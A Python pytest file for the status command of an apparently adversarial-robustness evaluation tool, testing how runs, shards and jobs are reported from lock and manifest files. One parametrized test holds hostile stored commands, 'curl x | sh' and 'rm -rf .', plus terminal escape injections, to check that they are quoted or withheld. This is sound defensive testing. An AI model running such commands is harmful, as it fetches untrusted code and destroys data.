"""What `gauntlet.commands.status` tells of runs and jobs at work, from files alone."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gauntlet.cluster.sweep_jobs import SweepJob
from gauntlet.commands.status import lines, main
from gauntlet.evidence.run_folder import RunFolder
from gauntlet.system import lock, progress
from gauntlet.system.lock import sole_owner
from gauntlet.system.progress import Bar, duration
from tests.evidence.manifests import small_manifest
from tests.leaderboard.conftest import make_run


@pytest.fixture
def run(tmp_path):
    """A run of four chunks, none of which is there."""
    manifest = small_manifest(chunks=4, chunk=2, command="python run.py attack=pgd runtime.shards=2 runtime.shard=0")
    folder = RunFolder(tmp_path / "digits" / "linf-0.1" / "none" / "pgd" / "0123")
    folder.create(manifest)
    return folder


def told(capsys, root, status=0):
    assert main([str(root)]) == status
    return capsys.readouterr().out.splitlines()


def bar(name="none pgd"):
    return Bar(desc=name, total=8, initial=0, unit="samples", shown=False)


def test_a_run_of_one_process_takes_one_line(run, tmp_path, capsys):
    with bar() as done:
        done.update(2)
        with sole_owner(run.path, "run-0-of-1", "; wait"):
            first, count = told(capsys, tmp_path)
    assert first.startswith(f"running  0/4  –  –  {run.path}  none pgd 25 %, ")
    assert first.endswith(" left")
    assert count == "1 running"


def test_each_shard_at_work_takes_a_line_of_its_own(run, tmp_path, capsys):
    with bar() as done, sole_owner(run.path, "run-10-of-12", "; wait"):
        done.update(4)
        with sole_owner(run.path, "run-9-of-12", "; wait"):
            first, one, two, _ = told(capsys, tmp_path)
    assert first == f"running  0/4  –  –  {run.path}"
    who = f"process {os.getpid()} on "
    assert one.startswith(f"         shard 9 of 12, {who}")
    assert ": none pgd 50 %, " in one
    assert two.startswith(f"         shard 10 of 12, {who}")
    assert two.endswith(": none pgd 0 %")


def test_a_job_that_trains_before_it_has_a_run_is_told(tmp_path, capsys):
    job = SweepJob(tmp_path / "_sweep" / "cells", "run", ("attack=pgd",))
    with bar("training digits") as done, job.at_work():
        assert told(capsys, tmp_path)[0] == "running  –  –  –  python run.py attack=pgd: training digits 0 %"
        done.update(1)
    assert told(capsys, tmp_path)[0] == "interrupted  –  –  –  python run.py attack=pgd"


def test_a_shard_that_starts_or_waits_is_not_told_as_partial(run, tmp_path, capsys):
    words = ("attack=pgd", "runtime.shards=2")
    one, two = (
        SweepJob(tmp_path / "_sweep" / "cells", "run", (*words, f"runtime.shard={shard}")) for shard in range(2)
    )
    assert told(capsys, tmp_path)[-1] == "1 interrupted; --commands prints what to go on with"
    two.wait()
    first, count = told(capsys, tmp_path)
    assert (first, count) == (
        f"waiting  0/4  –  –  {run.path}",
        "1 waiting; --commands prints what to go on with",
    )
    with one.at_work():
        assert told(capsys, tmp_path) == [f"running  0/4  –  –  {run.path}  starting", "1 running"]
    assert told(capsys, tmp_path)[-1].startswith("1 waiting")


def test_what_a_process_waits_for_is_told(tmp_path, monkeypatch):
    monkeypatch.setattr(lock, "PATIENCE", 0.05)
    monkeypatch.setattr(lock, "BEAT", 0.05)
    code = (
        "import sys, time; from pathlib import Path; from gauntlet.system.lock import sole_owner\n"
        "with sole_owner(Path(sys.argv[1]), 'train', None): print(1, flush=True); sys.stdin.read()"
    )
    env = os.environ | {"PYTHONPATH": str(Path(__file__).parents[2])}
    first = subprocess.Popen(
        [sys.executable, "-c", code, tmp_path], env=env, text=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    assert first.stdout.readline() == "1\n"
    heard = []
    real = progress.saying
    monkeypatch.setattr(progress, "saying", lambda text: (heard.append(text), first.stdin.close(), real(text))[2])
    with sole_owner(tmp_path, "train", None):
        assert heard[0].startswith(f"waiting for process {first.pid} on ")
    first.wait()
    first.stdout.close()


def test_watch_ends_when_nothing_runs(run, tmp_path, capsys, monkeypatch):
    held = sole_owner(run.path, "run-0-of-1", "; wait")
    held.__enter__()
    monkeypatch.setattr(time, "sleep", lambda seconds: held.__exit__(None, None, None))
    assert main([str(tmp_path), "--watch", "1"]) == 0
    said = capsys.readouterr().out
    assert said.count("running ") == 1
    assert main([str(tmp_path), "--commands"]) == 0
    assert capsys.readouterr().out == "python run.py -m attack=pgd runtime.shards=2 'runtime.shard=range(2)'\n"
    assert json.loads(run.manifest_path.read_text())["status"] == "running"


def test_a_login_node_that_may_only_read_is_told_too(run, tmp_path):
    with sole_owner(run.path, "run-0-of-1", "; wait"):
        run.path.chmod(0o555)
        try:
            assert lines(tmp_path)[0].state == "running"
        finally:
            run.path.chmod(0o755)


@pytest.mark.parametrize(("seconds", "words"), [(7, "7 s"), (150, "2 min"), (9000, "2.5 h")])
def test_times_are_told_in_the_unit_that_suits(seconds, words):
    assert duration(seconds) == words


def test_runs_stand_by_time_with_their_numbers_and_can_be_chosen(tmp_path, capsys):
    make_run(tmp_path, broken=range(5), change={"finished": "2026-03-02T10:00:00"})
    make_run(tmp_path, attack="pma", broken=range(9), change={"finished": "2026-03-01T09:30:00"})
    make_run(tmp_path, attack="fmn", eps="unbounded", broken=range(20), distance=0.25, change={"finished": ""})
    rows = [line.split() for line in told(capsys, tmp_path)]
    assert [row[2:-1] for row in rows[1:3]] == [
        ["2026-03-01", "09:30", "55.00", "%"], ["2026-03-02", "10:00", "75.00", "%"]
    ]  # fmt: skip
    assert rows[0][-3:-1] == ["d", "0.25"]
    assert len({line.index(str(tmp_path)) for line in told(capsys, tmp_path)[:3]}) == 1
    assert main([str(tmp_path), "--match", "pma", "--state", "done"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 2


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ("python run.py attack=pgd; curl x | sh", "python run.py 'attack=pgd;' curl x '|' sh\n"),
        ("rm -rf .", ""),
        ("python run.py 'attack=pgd", ""),
        ("python run.py attack=pgd\x1b[2J", ""),
    ],
)
def test_foreign_commands_are_quoted_or_not_offered(tmp_path, capsys, command, offered):
    make_run(tmp_path, change={"status": "failed", "command": command, "failures": ["\x1b[2Jgone\nmore"]})
    (line, _) = told(capsys, tmp_path, status=1)
    assert line.endswith("  ?[2Jgone more")
    assert main([str(tmp_path), "--commands"]) == 0
    assert capsys.readouterr().out == offered


def test_a_finished_run_is_listed_from_its_manifest_alone(tmp_path, capsys, monkeypatch):
    run = make_run(tmp_path / "runs")
    before = told(capsys, tmp_path)
    (number,) = [word for word in before[0].split("  ") if word.strip().endswith("%")]
    manifest = run.manifest()
    manifest["result"] = number.strip()
    run.update(manifest)
    monkeypatch.setattr(RunFolder, "_decoded", lambda *_: pytest.fail("a part was read"))
    assert told(capsys, tmp_path) == before


def test_a_result_from_elsewhere_steers_no_terminal(tmp_path, capsys):
    run = make_run(tmp_path / "runs")
    manifest = run.manifest()
    manifest |= dict.fromkeys(("result", "finished", "access"), "\x1b[2J99 %\nall good")
    run.update(manifest)
    lines_of = told(capsys, tmp_path)
    assert len(lines_of) == 2
    assert all(each.isprintable() for each in lines_of)
